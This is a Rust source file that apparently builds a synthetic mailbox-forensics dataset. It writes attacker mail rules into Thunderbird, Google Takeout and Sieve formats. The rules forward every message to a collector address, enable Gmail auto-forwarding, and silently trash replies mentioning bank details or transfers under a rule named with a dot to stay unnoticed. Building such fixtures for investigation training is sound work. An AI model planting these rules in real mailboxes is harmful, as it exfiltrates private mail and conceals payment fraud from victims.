//! The attacker's rules, in the files where each product keeps them: forward everything, hide the worried replies.

use serde_json::{Value, json};

use super::people::COLLECTOR;
use super::tree::Tree;

/// Format, path and what the rule does, for the truth file.
pub const RULE_FILES: [(&str, &str); 4] = [
    ("thunderbird", "thunderbird/ImapMail/mail.kerbrat-menuiserie.example/msgFilterRules.dat"),
    ("takeout", "takeout/Takeout/Messagerie/User Settings/Filters.json"),
    ("takeout", "takeout/Takeout/Messagerie/User Settings/Forwarding.json"),
    ("maildir", "maildir/dovecot.sieve"),
];

/// Writes the four files.
pub fn write(tree: &mut Tree) {
    let [mozilla, filters, forwarding, sieve] = RULE_FILES.map(|(_, path)| path);
    tree.add(mozilla, mozilla_filters());
    tree.add(filters, pretty(&gmail_filters()));
    tree.add(forwarding, pretty(&gmail_forwarding()));
    tree.add(sieve, sieve_script());
}

fn pretty(value: &Value) -> String {
    format!("{value:#}\n")
}

/// Two rules: the owner's old one, then the attacker's, named by a dot so that nobody sees it.
fn mozilla_filters() -> String {
    let rules = format!(
        "version=\"9\"\nlogging=\"no\"\nname=\"Quincaillerie Armor\"\nenabled=\"yes\"\ntype=\"17\"\n\
         action=\"Move to folder\"\n\
         actionValue=\"imap://solenn.legoff%40kerbrat-menuiserie.example@mail.kerbrat-menuiserie.example/INBOX/\
         Fournisseurs/Quincaillerie Armor\"\n\
         condition=\"AND (from,contains,quincaillerie-armor.example)\"\n\
         name=\".\"\nenabled=\"yes\"\ntype=\"17\"\naction=\"Forward\"\nactionValue=\"{COLLECTOR}\"\n\
         condition=\"ALL\"\n\
         name=\"..\"\nenabled=\"yes\"\ntype=\"17\"\naction=\"Mark read\"\naction=\"Delete\"\n\
         condition=\"OR (subject,contains,RIB) OR (subject,contains,virement) OR (from,contains,sci-les-embruns.example)\"\n"
    );
    rules.replace('\n', "\r\n")
}

fn gmail_filters() -> Value {
    json!({ "filter": [
        {
            "id": "ANe1BmjArmorExemple",
            "criteria": { "from": "quincaillerie-armor.example" },
            "action": { "addLabelIds": ["Fournisseurs/Quincaillerie Armor"], "removeLabelIds": ["INBOX"] }
        },
        {
            "id": "ANe1BmjPointExemple",
            "criteria": { "query": "RIB OR virement OR from:sci-les-embruns.example" },
            "action": { "addLabelIds": ["TRASH"], "removeLabelIds": ["INBOX", "UNREAD"], "forward": COLLECTOR }
        }
    ] })
}

fn gmail_forwarding() -> Value {
    json!({
        "autoForwarding": { "enabled": true, "emailAddress": COLLECTOR, "disposition": "leaveInInbox" },
        "forwardingAddresses": [{ "forwardingEmail": COLLECTOR, "verificationStatus": "accepted" }]
    })
}

/// RFC 5228, with the copy extension of RFC 3894.
fn sieve_script() -> String {
    format!(
        "require [\"copy\", \"fileinto\", \"imap4flags\"];\n\n\
         # rule:[Quincaillerie Armor]\n\
         if address :domain :is \"from\" \"quincaillerie-armor.example\" {{\n    \
         fileinto \"Fournisseurs.Quincaillerie Armor\";\n}}\n\
         # rule:[.]\n\
         if true {{\n    redirect :copy \"{COLLECTOR}\";\n}}\n\
         # rule:[..]\n\
         if anyof (header :contains \"subject\" [\"RIB\", \"virement\"], address :domain \"from\" \"sci-les-embruns.example\") {{\n    \
         setflag \"\\\\Seen\";\n    fileinto \"Trash\";\n    stop;\n}}\n"
    )
}
